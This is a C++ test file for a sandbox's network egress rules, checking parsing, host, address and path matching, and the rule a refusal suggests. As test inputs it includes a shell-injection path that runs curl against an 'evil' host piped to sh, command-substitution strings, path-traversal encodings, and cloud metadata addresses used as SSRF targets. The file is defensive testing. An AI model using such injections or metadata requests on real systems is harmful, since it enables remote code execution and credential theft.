// SPDX-License-Identifier: Apache-2.0
// Egress rules: how they are written, what they match, what a refusal says.
#include "engine/egress/rules.h"

#include "tests/support/catch.h"

using namespace wardenv::engine;

namespace {

EgressRule rule(std::string_view text) {
  auto parsed = parse_egress_rule(text);
  INFO(text << ": " << (parsed ? "" : parsed.error().message));
  REQUIRE(parsed);
  return *parsed;
}

std::vector<EgressRule> rules(std::initializer_list<const char*> texts) {
  std::vector<EgressRule> list;
  for (const char* text : texts) list.push_back(rule(text));
  return list;
}

bool tunnel(const std::vector<EgressRule>& list, const char* host, std::uint16_t port) {
  const auto target = make_target(host, port);
  return target && judge_target(list, *target, nullptr).rule != nullptr;
}

bool http(const std::vector<EgressRule>& list, const char* host, std::uint16_t port, const char* method, const char* path) {
  const HttpRequestView request{method, path};
  const auto target = make_target(host, port);
  return target && judge_target(list, *target, &request).rule != nullptr;
}

bool address_ok(const std::vector<EgressRule>& list, const char* host, std::uint16_t port, const char* address, Owner owner = Owner::kOther) {
  const auto target = make_target(host, port).value();
  const auto judged = judge_target(list, target, nullptr);
  REQUIRE(judged.rule != nullptr);
  return judge_address(list, *judged.rule, target, parse_address(address).value(), owner).rule != nullptr;
}

}  // namespace

TEST_CASE("a rule is a name with the usual ports unless it says otherwise") {
  CHECK(rule("Example.ORG.").host == "example.org");
  CHECK(rule("example.org").ports == std::vector<std::uint16_t>{80, 443});
  CHECK(rule("example.org:8443").ports == std::vector<std::uint16_t>{8443});
  CHECK(rule("example.org:80,8080").ports == std::vector<std::uint16_t>{80, 8080});
  CHECK(rule("*.example.org").match == HostMatch::kSuffix);
  CHECK(rule("*.example.org").host == "example.org");
  CHECK(rule("xn--bcher-kva.example").host == "xn--bcher-kva.example");
  CHECK(rule("example.org/").path_prefix.empty());
  CHECK(rule("example.org/simple").ports == std::vector<std::uint16_t>{80});
  CHECK(rule("GET,HEAD example.org:8080/debian/").methods == std::vector<std::string>{"GET", "HEAD"});
  CHECK(rule("GET,HEAD example.org:8080/debian/").path_prefix == "/debian/");
  CHECK(rule("mirror.corp:443=10.0.0.0/8,fd00::/8").addresses.size() == 2);
  CHECK(rule("10.0.0.0/8").match == HostMatch::kAddress);
  CHECK(rule("10.0.0.0/8:443").ports == std::vector<std::uint16_t>{443});
  CHECK(rule("10.1.2.3:443").addresses[0].prefix == 32);
  CHECK(rule("fd00::/8").match == HostMatch::kAddress);
  CHECK(rule("[fd00::/8]:443").ports == std::vector<std::uint16_t>{443});
  CHECK(rule("GET 10.1.2.3/debian").path_prefix == "/debian");
}

TEST_CASE("what is no rule is refused in one line") {
  for (const char* text : {"", " ", "*", "*.", ".", "..", "a..b", ".example.org", "*example.org", "a.*.org", "*.*.org", "https://example.org", "user@example.org",
                           "example.org:", "example.org:0", "example.org:65536", "example.org:-1", "example.org:80,", "example.org:80-90", "example.org:https",
                           "exa mple.org", "example.org\r\n", "-a.org", "a-.org", "b\xc3\xbc" "cher.example", "2130706433", "0x7f000001", "0x7f.1", "127.1",
                           "0177.0.0.1", "1.2.3.4.5", "a.b.1", "a.0x1", "10.0.0.1/8", "10.0.0.0/33", "[::1", "::1]", "[fe80::1%lo]", "example.org=10.0.0.0/33",
                           "example.org=", "10.0.0.0/8=10.0.0.0/8", "CONNECT example.org", "TRACE example.org", "get example.org", "GET  example.org",
                           "example.org/a?b", "example.org/a%2e", "example.org/a/../b", "example.org//a", "*.1.2.3.4", "1.2.3.4."}) {
    INFO(text);
    const auto parsed = parse_egress_rule(text);
    REQUIRE_FALSE(parsed);
    CHECK(parsed.error().message.find('\n') == std::string::npos);
  }
  CHECK_FALSE(parse_egress_rule(std::string_view("example.org\0", 12)));
  CHECK_FALSE(parse_egress_rule(std::string(64, 'a') + ".org"));
  CHECK(parse_egress_rule(std::string(63, 'a') + ".org"));
  CHECK_FALSE(parse_egress_rule(std::string(2000, 'a')));
}

TEST_CASE("an empty list allows nothing") {
  const std::vector<EgressRule> none;
  CHECK_FALSE(tunnel(none, "example.org", 443));
  CHECK_FALSE(tunnel(none, "127.0.0.1", 443));
  CHECK_FALSE(http(none, "example.org", 80, "GET", "/"));
}

TEST_CASE("names match in full, in any case, with or without the last dot") {
  const auto list = rules({"allowed.example"});
  for (const char* good : {"allowed.example", "ALLOWED.Example", "allowed.example."}) CHECK(tunnel(list, good, 443));
  for (const char* bad : {"notallowed.example", "allowed.example.evil", "evil.allowed.example", "allowed.example..", "allowedXexample", "allowed.exampl",
                          "allowed.example@evil", "allowed.example%00.evil", "evil#allowed.example", "allowed.example:443", " allowed.example", "allowed.example\r", "", "."}) {
    INFO(bad);
    CHECK_FALSE(tunnel(list, bad, 443));
  }
  CHECK_FALSE(make_target(std::string_view("allowed.example\0.evil", 21), 443));
  CHECK_FALSE(make_target("allowed.example", 0));
  CHECK_FALSE(tunnel(list, "allowed.example", 22));
}

TEST_CASE("a suffix matches every name below it and not itself") {
  const auto list = rules({"*.example.org"});
  CHECK(tunnel(list, "a.example.org", 443));
  CHECK(tunnel(list, "a.b.example.org", 443));
  for (const char* bad : {"example.org", "notexample.org", ".example.org", "a.example.org.evil"}) CHECK_FALSE(tunnel(list, bad, 443));
}

TEST_CASE("an address is allowed by a range and by no name") {
  CHECK(tunnel(rules({"10.0.0.0/8"}), "10.1.2.3", 443));
  CHECK_FALSE(tunnel(rules({"10.0.0.0/8"}), "11.1.2.3", 443));
  CHECK_FALSE(tunnel(rules({"10.0.0.0/8"}), "name.example", 443));
  CHECK(tunnel(rules({"fd00::/8"}), "fd00::1", 443));
  CHECK_FALSE(tunnel(rules({"0.0.0.0/0"}), "::ffff:10.1.2.3", 443));
  for (const char* spelling : {"167838211", "0xa010203", "012.1.2.3", "10.1.515"}) CHECK_FALSE(tunnel(rules({"10.0.0.0/8", "0.0.0.0/0"}), spelling, 443));
}

TEST_CASE("methods and paths are for plain HTTP alone") {
  const auto list = rules({"GET,HEAD mirror.example/debian"});
  CHECK(http(list, "mirror.example", 80, "GET", "/debian"));
  CHECK(http(list, "mirror.example", 80, "HEAD", "/debian/dists/x"));
  CHECK(http(list, "mirror.example", 80, "GET", "/debian/x?query=//.."));
  for (const char* path : {"/", "/debianx", "/debian/../secret", "/debian/%2e%2e/secret", "/debian/%2E./x", "/debian/..", "/debian//x", "/debian%2fx",
                           "/debian/%2Fx", "/debian/\\..", "/debian/./x", "/debian/a%5c", "/debian/%252e%252e/secret", "/debian/%c0%ae/x", "/debian/x#y"}) {
    INFO(path);
    CHECK_FALSE(http(list, "mirror.example", 80, "GET", path));
  }
  CHECK_FALSE(http(list, "mirror.example", 80, "POST", "/debian/x"));
  CHECK_FALSE(http(list, "mirror.example", 80, "get", "/debian/x"));
  CHECK_FALSE(tunnel(list, "mirror.example", 80));
  CHECK_FALSE(tunnel(list, "mirror.example", 443));
}

TEST_CASE("a name reaches public addresses, and others where a rule names the range") {
  const auto plain = rules({"name.example"});
  CHECK(address_ok(plain, "name.example", 443, "1.1.1.1"));
  CHECK_FALSE(address_ok(plain, "name.example", 443, "1.1.1.1", Owner::kThisHost));
  for (const char* address : {"127.0.0.1", "10.1.2.3", "169.254.169.254", "::1", "::ffff:1.1.1.1", "::ffff:127.0.0.1", "fe80::1", "0.0.0.0", "224.0.0.1"}) {
    INFO(address);
    CHECK_FALSE(address_ok(plain, "name.example", 443, address));
  }
  CHECK(address_ok(rules({"name.example=10.0.0.0/8"}), "name.example", 443, "10.1.2.3"));
  CHECK_FALSE(address_ok(rules({"name.example=10.0.0.0/8"}), "name.example", 443, "127.0.0.1"));
  CHECK(address_ok(rules({"name.example", "10.0.0.0/8"}), "name.example", 443, "10.1.2.3"));
  CHECK_FALSE(address_ok(rules({"name.example:22", "10.0.0.0/8:443"}), "name.example", 22, "10.1.2.3"));
  CHECK(address_ok(rules({"name.example=127.0.0.0/8"}), "name.example", 443, "127.0.0.1", Owner::kThisHost));
  CHECK(address_ok(rules({"127.0.0.1"}), "127.0.0.1", 443, "127.0.0.1", Owner::kThisHost));
}

TEST_CASE("a range that holds the Internet does not name what is in this host or beside it") {
  const auto all = rules({"0.0.0.0/0", "::/0", "name.example=0.0.0.0/0"});
  CHECK(address_ok(all, "1.1.1.1", 443, "1.1.1.1"));
  CHECK(address_ok(all, "name.example", 443, "1.1.1.1"));
  for (const char* address : {"127.0.0.1", "10.1.2.3", "169.254.169.254", "::1", "::ffff:127.0.0.1", "64:ff9b::7f00:1", "2002:7f00:1::1", "2001::1", "fd00::1"}) {
    INFO(address);
    CHECK_FALSE(address_ok(all, address, 443, address));
    CHECK_FALSE(address_ok(all, "name.example", 443, address));
  }
  CHECK_FALSE(address_ok(all, "9.9.9.9", 443, "9.9.9.9", Owner::kThisHost));
  CHECK(address_ok(rules({"0.0.0.0/0", "9.9.9.9"}), "9.9.9.9", 443, "9.9.9.9", Owner::kThisHost));
  CHECK(address_ok(rules({"0.0.0.0/0", "10.0.0.0/8"}), "10.1.2.3", 443, "10.1.2.3"));
  CHECK_FALSE(address_ok(rules({"169.254.0.0/16"}), "169.254.169.254", 443, "169.254.169.254"));
  for (const char* metadata : {"100.100.100.200", "192.0.0.192", "fd00:ec2::254", "fd20:ce::254"}) {
    INFO(metadata);
    const auto wide = rules({"100.64.0.0/10", "192.0.0.0/24", "fc00::/7", "fd00::/8", "0.0.0.0/0", "::/0", "name.example=100.64.0.0/10,192.0.0.0/24,fc00::/7"});
    CHECK_FALSE(address_ok(wide, metadata, 443, metadata));
    CHECK_FALSE(address_ok(wide, "name.example", 443, metadata));
    CHECK(address_ok(rules({metadata}), metadata, 443, metadata));
  }
  CHECK(address_ok(rules({"100.64.0.0/10"}), "100.100.100.201", 443, "100.100.100.201"));   // its neighbour is in the range
  CHECK(address_ok(rules({"169.254.169.254"}), "169.254.169.254", 443, "169.254.169.254"));
}

TEST_CASE("a refusal says which rule would be needed, and that rule does") {
  auto needed = [](const std::vector<EgressRule>& list, const char* host, std::uint16_t port, const HttpRequestView* request) {
    const EgressTarget target = make_target(host, port).value();
    const EgressJudgement judged = judge_target(list, target, request);
    REQUIRE(judged.rule == nullptr);
    const std::vector<EgressRule> more{rule(judged.needed)};
    CHECK(judge_target(more, target, request).rule != nullptr);
    return judged.needed;
  };
  CHECK(needed({}, "evil.example", 443, nullptr) == "evil.example");
  CHECK(needed({}, "evil.example", 8443, nullptr) == "evil.example:8443");
  CHECK(needed({}, "10.1.2.3", 443, nullptr) == "10.1.2.3");
  CHECK(needed({}, "fd00::1", 22, nullptr) == "[fd00::1]:22");
  CHECK(needed(rules({"a.example"}), "a.example", 22, nullptr) == "a.example:22");
  const HttpRequestView post{"POST", "/up?secret=1"};
  CHECK(needed(rules({"GET a.example"}), "a.example", 80, &post) == "POST a.example:80/up");
  CHECK(needed(rules({"GET a.example:443"}), "a.example", 443, &post) == "POST a.example:443/up");
  const auto list = rules({"a.example"});
  const EgressTarget target = make_target("a.example", 443).value();
  CHECK(judge_address(list, list[0], target, parse_address("10.0.0.1").value(), Owner::kOther).needed == "a.example=10.0.0.1/32");
}

TEST_CASE("a suggested rule has nothing in it that means something to a shell") {
  const auto list = rules({"GET a.example/open"});
  const EgressTarget target = make_target("a.example", 80).value();
  for (const char* path : {"/x';curl${IFS}evil|sh;'", "/`id`", "/$(id)", "/a;b", "/a&b", "/a|b", "/a\"b", "/a\\b", "/a!b", "/a*b", "/a=10.0.0.0/8", "/a,b", "/a:81",
                           "/a#b", "/a%27b", "/a(b)", "/a<b", "/a\nb", "/a//b", "/a/../b", "/\xc3\xa9"}) {
    INFO(path);
    const HttpRequestView request{"GET", path};
    const EgressJudgement judged = judge_target(list, target, &request);
    REQUIRE(judged.rule == nullptr);
    CHECK(judged.needed == "GET a.example:80");
    const std::vector<EgressRule> more{rule(judged.needed)};
    CHECK(judge_target(more, target, &request).rule != nullptr);
  }
  const HttpRequestView good{"GET", "/A-z_0.9~/x?token='`id`"};
  CHECK(judge_target(list, target, &good).needed == "GET a.example:80/A-z_0.9~/x");
  for (const char* method : {"'`id`'", "get", "$X", "G|T", "AVERYLONGMETHODTHATNOBODYHAS"}) {
    const HttpRequestView request{method, "/x"};
    const EgressJudgement judged = judge_target(list, target, &request);
    CHECK(judged.needed.empty());
    CHECK(judged.reason.starts_with("this method of that path"));
  }
}

TEST_CASE("presets have names") {
  CHECK(parse_egress_preset("pip-index").value() == EgressPreset::kPipIndex);
  CHECK(to_string(EgressPreset::kGitRemote) == "git-remote");
  CHECK_FALSE(parse_egress_preset("pypi"));
}
